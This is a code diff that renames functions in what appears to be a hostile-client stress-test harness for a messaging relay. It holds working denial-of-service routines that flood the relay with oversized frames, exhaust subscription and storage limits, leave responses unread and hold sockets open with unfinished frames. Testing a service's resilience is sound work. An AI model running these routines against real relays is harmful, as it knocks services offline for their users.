@@ -1,25 +1,25 @@
 import { get } from 'node:http'
 import { WebSocket } from 'ws'
 import {
-  answered,
-  anyTopic,
-  badIds,
   drafts,
-  enter,
   flood,
-  gather,
-  hold,
+  frameWithBadIds,
+  holdSockets,
   kib,
   longInclude,
+  nextMessage,
+  objectWithNewKeys,
+  openAuthorizedSocket,
+  openSockets,
   publish,
   publishWide,
-  raw,
+  randomTopic,
+  rawSocketOf,
   request,
-  rest,
-  search,
+  searchWallets,
   type Target,
   topic,
-  wide,
+  waitWhileAttacking,
 } from './hostileClient.ts'
 
 /**
@@ -29,14 +29,14 @@ import {
  * @param fillingKeys - The number of new client keys that store as many very short messages as the limits allow. A relay without a data
  * folder has these messages in memory.
  */
-export async function stack(target: Target, fillingKeys: number): Promise<void> {
+export async function useUpLimits(target: Target, fillingKeys: number): Promise<void> {
   await requestImage(target)
-  await Promise.all(Array.from({ length: fillingKeys }, () => fill(target)))
+  await Promise.all(Array.from({ length: fillingKeys }, () => fillStorageOnce(target)))
   const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
-  const giantFrame = badIds(255 * kib)
+  const giantFrame = frameWithBadIds(255 * kib)
   const sendGiantFrames = async () => {
-    await rest(target, 8_000)
-    await Promise.all([flood(target, () => giantFrame), search(target, longInclude)])
+    await waitWhileAttacking(target, 8_000)
+    await Promise.all([flood(target, () => giantFrame), searchWallets(target, longInclude)])
   }
   await Promise.all([fetchMany(target), leaveUnfinished(target), sendGiantFrames()])
   for (const socket of sockets) socket.terminate()
@@ -46,33 +46,33 @@ export async function stack(target: Target, fillingKeys: number): Promise<void> 
  * Uses up all limits while new client keys connect and disconnect. Eight more keys send the long frames that take the relay the most work
  * to parse.
  */
-export async function stackLong(target: Target, fillingKeys: number): Promise<void> {
+export async function useUpLimitsWithLongFrames(target: Target, fillingKeys: number): Promise<void> {
   const sendLongFrames = async () => {
-    await rest(target, 14_000)
+    await waitWhileAttacking(target, 14_000)
     if (target.isOver()) return
     const frames = Array.from({ length: 64 }, () => {
-      const params = `[${Array.from({ length: 44 }, () => wide(100))}]`
+      const params = `[${Array.from({ length: 44 }, () => objectWithNewKeys(100))}]`
       return `{"id":1,"jsonrpc":"2.0","method":"x","params":${params}}`.padEnd(250 * kib)
     })
     let sent = 0
-    const next = () => {
+    const nextFrame = () => {
       sent += 1
       return frames[sent % frames.length] ?? ''
     }
-    await Promise.all(Array.from({ length: 8 }, () => flood(target, next)))
+    await Promise.all(Array.from({ length: 8 }, () => flood(target, nextFrame)))
   }
-  await Promise.all([stack(target, fillingKeys), comeAndGo(target), sendLongFrames()])
+  await Promise.all([useUpLimits(target, fillingKeys), comeAndGo(target), sendLongFrames()])
 }
 
 /**
  * Uses up the limits of subscriptions and unread responses. Then sends frames with thousands of new keys, whose messages wait to be stored.
  */
-export async function stackWide(target: Target): Promise<void> {
+export async function useUpLimitsWithWideFrames(target: Target): Promise<void> {
   await requestImage(target)
   const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
   const sendWideFrames = async () => {
     // The attack has used up the byte limit of its address. The limit refills during this wait.
-    await rest(target, 16_000)
+    await waitWhileAttacking(target, 16_000)
     await publishWide(target)
   }
   await Promise.all([comeAndGo(target), sendWideFrames()])
@@ -92,59 +92,63 @@ function requestImage({ relayUrl, from }: Target): Promise<void> {
 }
 
 /** Repeats a request until it has succeeded `count` times, or until the relay refuses it for another reason than its rate limit. */
-async function repeat(target: Target, socket: WebSocket, { count, frame }: { count: number; frame: () => string }) {
+async function repeatRequest(
+  target: Target,
+  socket: WebSocket,
+  { count, frame }: { count: number; frame: () => string },
+) {
   for (let done = 0; done < count && !target.isOver() && socket.readyState === WebSocket.OPEN; ) {
     socket.send(frame())
     target.seen.sent += 1
-    const response = await answered(socket)
+    const response = await nextMessage(socket)
     if (response.includes('"result"')) done += 1
-    else if (response.includes('slow down')) await rest(target, 500)
+    else if (response.includes('slow down')) await waitWhileAttacking(target, 500)
     else return
   }
 }
 
-async function fill(target: Target) {
-  const socket = await enter(target)
+async function fillStorageOnce(target: Target) {
+  const socket = await openAuthorizedSocket(target)
   if (!socket) return
-  const frame = () => request('irn_batchPublish', { messages: drafts(100, anyTopic, 604_800) })
-  await repeat(target, socket, { count: 10, frame })
+  const frame = () => request('irn_batchPublish', { messages: drafts(100, randomTopic, 604_800) })
+  await repeatRequest(target, socket, { count: 10, frame })
   socket.terminate()
 }
 
 async function subscribeAll(target: Target): Promise<readonly WebSocket[]> {
-  const sockets = (await gather(target, 4)).slice(0, 4)
-  const frame = () => request('irn_batchSubscribe', { topics: Array.from({ length: 500 }, anyTopic) })
-  await Promise.all(sockets.map((socket) => repeat(target, socket, { count: 10, frame })))
+  const sockets = (await openSockets(target, 4)).slice(0, 4)
+  const frame = () => request('irn_batchSubscribe', { topics: Array.from({ length: 500 }, randomTopic) })
+  await Promise.all(sockets.map((socket) => repeatRequest(target, socket, { count: 10, frame })))
   return sockets
 }
 
 /** Many client keys request long messages and do not read the responses. */
 async function leaveUnread(target: Target): Promise<readonly WebSocket[]> {
-  const first = await enter(target)
+  const first = await openAuthorizedSocket(target)
   for (let number = 0; number < 30; number += 1) first?.send(publish(`${number} ${'x'.repeat(45_000)}`))
-  await rest(target, 8_000)
-  const sockets = await gather(target, 160)
+  await waitWhileAttacking(target, 8_000)
+  const sockets = await openSockets(target, 160)
   for (const socket of sockets) {
     socket.pause()
     for (let count = 0; count < 2 && socket.readyState === WebSocket.OPEN; count += 1)
       socket.send(request('irn_fetchMessages', { topic }))
   }
   target.seen.sent += 2 * sockets.length
-  await rest(target, 2_000)
+  await waitWhileAttacking(target, 2_000)
   return sockets
 }
 
 /** Sends batch fetches with the maximum number of topics. The fetches wait in the relay's queue and take memory. */
 async function fetchMany(target: Target) {
   while (!target.isOver()) {
-    const sockets = await gather(target, 20)
+    const sockets = await openSockets(target, 20)
     for (let count = 0; count < 20; count += 1)
       for (const socket of sockets) {
         if (socket.readyState !== WebSocket.OPEN) continue
-        socket.send(request('irn_batchFetchMessages', { topics: Array.from({ length: 500 }, anyTopic) }))
+        socket.send(request('irn_batchFetchMessages', { topics: Array.from({ length: 500 }, randomTopic) }))
         target.seen.sent += 1
       }
-    await rest(target, 5_000)
+    await waitWhileAttacking(target, 5_000)
     for (const socket of sockets) socket.terminate()
   }
 }
@@ -152,19 +156,19 @@ async function fetchMany(target: Target) {
 /** Connects and disconnects with new client keys. The relay stores an account for each key until its next sweep. */
 async function comeAndGo(target: Target) {
   while (!target.isOver()) {
-    const entered = await Promise.all(Array.from({ length: 6 }, () => enter(target)))
+    const entered = await Promise.all(Array.from({ length: 6 }, () => openAuthorizedSocket(target)))
     for (const socket of entered) socket?.terminate()
-    await rest(target, 100)
+    await waitWhileAttacking(target, 100)
   }
 }
 
 function leaveUnfinished(target: Target): Promise<void> {
   const length = 60 * kib
   const head = Buffer.from([0x81, 0xfe, length >> 8, length & 0xff, 0, 0, 0, 0])
-  const part = Buffer.concat([head, Buffer.alloc(length - 1, 'x')])
-  return hold(target, 40, async () => {
-    const socket = await enter(target)
-    if (socket) raw(socket).write(part)
+  const unfinishedFrame = Buffer.concat([head, Buffer.alloc(length - 1, 'x')])
+  return holdSockets(target, 40, async () => {
+    const socket = await openAuthorizedSocket(target)
+    if (socket) rawSocketOf(socket).write(unfinishedFrame)
     return socket
   })
 }
